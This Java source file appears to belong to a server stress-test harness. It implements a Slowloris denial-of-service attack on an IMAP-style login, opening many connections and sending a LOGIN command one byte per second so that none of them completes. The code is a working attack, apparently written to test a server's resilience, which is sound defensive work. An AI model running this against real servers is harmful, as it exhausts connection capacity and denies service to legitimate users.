package satchel.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * Class (d), first half: before login, many connections from one address each send a LOGIN command one byte a
 * second and never finish it. One thread walks all sockets, so the attacker costs nothing but descriptors.
 */
record Slowloris() implements Attack {
    @Override public String name() { return "d-slowloris"; }
    @Override public String what() { return "pre-login connections from one address sending 1 byte per second each, never a whole line"; }

    @Override public String run(Ctx ctx) {
        int n = ctx.sizes().slowlorisConns();
        Socket[] socks = new Socket[n];
        int ok = 0;
        int bye = 0;
        int failed = 0;
        for (int i = 0; i < n && ctx.timeLeft(); i++) {
            try {
                Socket s = ctx.keep(Wire.plain(ctx.target(), ctx.from(0), ctx.target().port(), 5000, 0));
                s.setSoTimeout(5000);
                String g = greeting(s.getInputStream());
                if (g.startsWith("* OK")) {
                    ok++;
                    socks[i] = s;
                } else {
                    bye++;
                    s.close();
                }
            } catch (IOException e) {
                failed++;
            }
        }
        byte[] trickle = ("a LOGIN " + ctx.target().attacker(0) + " " + "p".repeat(4000)).getBytes(StandardCharsets.US_ASCII);
        long bytes = 0;
        int cut = 0;
        for (int round = 0; round < trickle.length && ctx.timeLeft(); round++) {
            long start = System.nanoTime();
            for (int i = 0; i < n; i++) {
                if (socks[i] == null) continue;
                try {
                    OutputStream o = socks[i].getOutputStream();
                    o.write(trickle[round]);
                    o.flush();
                    bytes++;
                } catch (IOException e) {
                    socks[i] = null;
                    cut++;
                }
            }
            ctx.sleep(1000 - (System.nanoTime() - start) / 1_000_000);
        }
        return n + " connects: " + ok + " greeted OK, " + bye + " BYE, " + failed + " failed; " + bytes
                + " bytes trickled, " + cut + " cut by the server";
    }

    static String greeting(InputStream in) throws IOException {
        StringBuilder b = new StringBuilder();
        for (int c = in.read(); c >= 0 && c != '\n' && b.length() < 1024; c = in.read()) b.append((char) c);
        return b.toString();
    }
}
